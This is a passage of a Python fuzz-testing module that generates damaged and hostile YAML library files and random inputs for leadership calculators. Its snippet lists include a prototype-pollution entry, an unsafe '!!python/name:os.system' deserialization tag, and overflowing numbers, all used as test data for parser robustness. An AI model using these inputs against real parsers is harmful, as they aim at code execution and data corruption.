    b"id: x\n" + ("title: " + YAML_CANARY + "\n").encode() * 2,
    b"__proto__: {polluted: true}\nconstructor: x\n",
)

_YAML_SNIPPETS = (
    b"*alias",
    b"&anchor",
    b"<<: *x",
    b"!!python/name:os.system",
    b"!x",
    b"\t",
    b"\x00",
    b"\xff",
    b"\xc3",
    b"{",
    b"]",
    b"'",
    b'"',
    b": ",
    b"---",
    b"...",
    b"%YAML 1.2",
    b"? ",
    b"- ",
    b"#",
    b"|",
    b">-",
    b"\r",
    b"\xe2\x80\xa8",
    b"\xe2\x80\xae",
    b"\xef\xbb\xbf",
    b"[" * 60,
    b"9" * 400,
    YAML_CANARY.encode() * 3,
)


#: Numbers a library file might hold in place of a sane one.
HOSTILE_YAML_NUMBERS = (
    b"9" * 400,
    b"-" + b"9" * 400,
    b"!!int " + b"9" * 400,
    b"1e16",
    b"-1e16",
    b"1e15",
    b"1e308",
    b"1e400",
    b"-.inf",
    b".nan",
    b"1e-320",
    b"-0",
    b"0x10",
    b"1_000",
    b"4.",
    b"00",
)


@st.composite
def hostile_yaml(draw: st.DrawFn, valid: bytes) -> bytes:
    """A library file under attack: one of :data:`HOSTILE_YAML`, the ``valid`` file damaged
    (a hostile snippet spliced in, a line duplicated or indented with a tab, a value replaced by
    a hostile one, cut short, its bytes flipped), or junk bytes and text."""
    how = draw(st.sampled_from(("canned", "splice", "splice", "line", "value", "number", "cut", "flip", "junk", "text")))
    if how == "canned":
        return draw(st.sampled_from(HOSTILE_YAML))
    if how == "junk":
        return draw(st.binary(max_size=300))
    if how == "text":
        return draw(st.text(st.characters(codec="utf-8"), max_size=200)).encode("utf-8")
    if how == "cut":
        return valid[: draw(st.integers(0, len(valid)))]
    if how == "flip":
        data = bytearray(valid)
        for _ in range(draw(st.integers(1, 8))):
            data[draw(st.integers(0, len(data) - 1))] = draw(st.integers(0, 255))
        return bytes(data)
    numbers = list(re.finditer(rb"(?<![\w.-])[0-9]+(?![\w.-])", valid))
    if how == "number" and numbers:  # a number the rules compute with, replaced by a hostile one
        spot = draw(st.sampled_from(numbers))
        value = draw(st.sampled_from(HOSTILE_YAML_NUMBERS))
        return valid[: spot.start()] + value + valid[spot.end() :]
    lines = valid.split(b"\n")
    at = draw(st.integers(0, len(lines) - 1))
    if how == "splice":
        line = lines[at]
        cut = draw(st.integers(0, len(line)))
        pieces = draw(st.lists(st.sampled_from(_YAML_SNIPPETS), min_size=1, max_size=3))
        lines[at] = line[:cut] + b"".join(pieces) + line[cut:]
    elif how == "line":
        kind = draw(st.sampled_from(("duplicate", "tab", "indent", "drop")))
        if kind == "duplicate":
            lines.insert(at, lines[at])
        elif kind == "tab":
            lines[at] = b"\t" + lines[at]
        elif kind == "indent":
            lines[at] = b"  " + lines[at]
        else:
            del lines[at]
    else:  # a value replaced: the text after the first ": " of a line
        key, sep, _ = lines[at].partition(b": ")
        value = draw(
            st.one_of(
                st.sampled_from(_YAML_SNIPPETS),
                st.sampled_from(HOSTILE_STRINGS).map(lambda s: s.encode("utf-8", "surrogatepass")),
                st.text(max_size=40).map(lambda s: s.encode("utf-8", "surrogatepass")),
                st.sampled_from((b"|\n  ghost", b"|+\n  a\n\n", b">\n  folded", b"''", b"null", b"[]", b"{}", b"-1", b"1e400")),
            )
        )
        lines[at] = (key + b": " if sep else b"id: ") + value
    return b"\n".join(lines)


# --- Leadership calculators (calculators/leadership.py) ---------------------------------

#: The answers of the relationship scale's criteria in the shipped YAML, strongest first.
RELATIONSHIP_ANSWERS = {
    "contact": ("regular", "responds", "slow", "none"),
    "sentiment": ("advocate", "positive", "neutral", "complaints"),
    "access": ("multi_level", "single_level"),
    "expansion": ("expanding", "not_yet"),
}


def relationship_answers() -> st.SearchStrategy[dict[str, str]]:
    """One answer per relationship criterion."""
    return st.fixed_dictionaries({name: st.sampled_from(options) for name, options in RELATIONSHIP_ANSWERS.items()})


def attainments(high: float = 300) -> st.SearchStrategy[dict[str, float]]:
    """An attainment (percent, 0 to ``high``) for each renewal incentive metric."""
    value = st.floats(min_value=0, max_value=high, allow_nan=False, allow_infinity=False)
    return st.fixed_dictionaries({name: value for name in ("grr", "nrr", "expansion", "health")})
